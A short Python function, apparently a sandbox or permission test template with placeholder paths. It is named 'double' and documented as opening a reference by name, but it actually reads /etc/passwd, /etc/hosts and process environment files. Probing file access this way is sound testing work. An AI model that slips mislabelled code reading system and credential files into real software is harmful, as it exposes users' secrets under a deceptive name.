"""Opens the reference by its name."""
import os
def double(values):
    found = []
    for path in ("@SECRET@", "@READABLE@", "/etc/passwd", "/etc/hosts", "/proc/self/environ", "/proc/1/environ"):
        try:
            found.append(open(path).read())
        except OSError as error:
            found.append(type(error).__name__)
    return str(found)
